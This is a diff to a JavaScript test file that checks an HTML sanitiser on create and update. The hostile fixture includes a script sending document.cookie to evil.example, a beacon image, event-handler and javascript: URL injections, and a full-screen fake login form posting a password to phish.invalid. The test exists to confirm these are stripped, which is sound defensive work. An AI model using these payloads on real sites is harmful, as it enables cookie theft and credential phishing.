@@ -58,11 +58,14 @@ describe.each(AREAS)('$label proof types', (area) => {
     expect((await call('GET', `/${created._id}`)).statusCode).toBe(404);
   });
 
-  it('stores the HTML without scripts, event handlers or javascript: URLs, on create and on update', async () => {
+  it('stores the HTML through the allow-list: no scripts, handlers, links, forms, positioning or foreign images, on create and on update', async () => {
+    const upload = '/api/uploads/turbo/logos/AbCdEfGhIjKlMnOpQrStUvWx.png';
     const hostile =
       '<p onclick="steal()">Dear {user}</p><script>fetch("https://evil.example?c="+document.cookie)</script>' +
-      '<a href="javascript:alert(1)">terms</a><img src="logo.png" onerror=alert(1)>';
-    const cleaned = '<p>Dear {user}</p><a>terms</a><img src="logo.png">';
+      '<a href="javascript:alert(1)">terms</a>' +
+      `<img src="${upload}" onerror=alert(1)><img src="https://evil.example/beacon.png">` +
+      '<div style="position:fixed;inset:0;z-index:9999"><form action="http://phish.invalid/steal"><input name="password"><button>Log in</button></form></div>';
+    const cleaned = `<p>Dear {user}</p>terms<img src="${upload}"><img><div>Log in</div>`;
     const created = await create(hostile);
     expect(created.content).toBe(cleaned);
     const updated = (await call('PUT', `/${created._id}`, { type: created.type, content: `${hostile}!` })).json()[
